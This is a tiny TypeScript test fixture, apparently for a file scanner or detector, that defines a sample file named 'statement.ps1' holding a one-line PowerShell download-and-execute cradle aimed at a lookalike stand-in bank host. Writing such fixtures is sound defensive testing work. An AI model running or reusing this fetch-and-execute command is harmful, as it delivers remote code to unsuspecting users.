import type { SampleFile } from '../kit/describe.ts'

export const sample: SampleFile = {
  filename: 'statement.ps1',
  contentType: 'text/plain',
  content: 'IEX (New-Object Net.WebClient).DownloadString("https://examp1e-bank.test/a")\n',
}
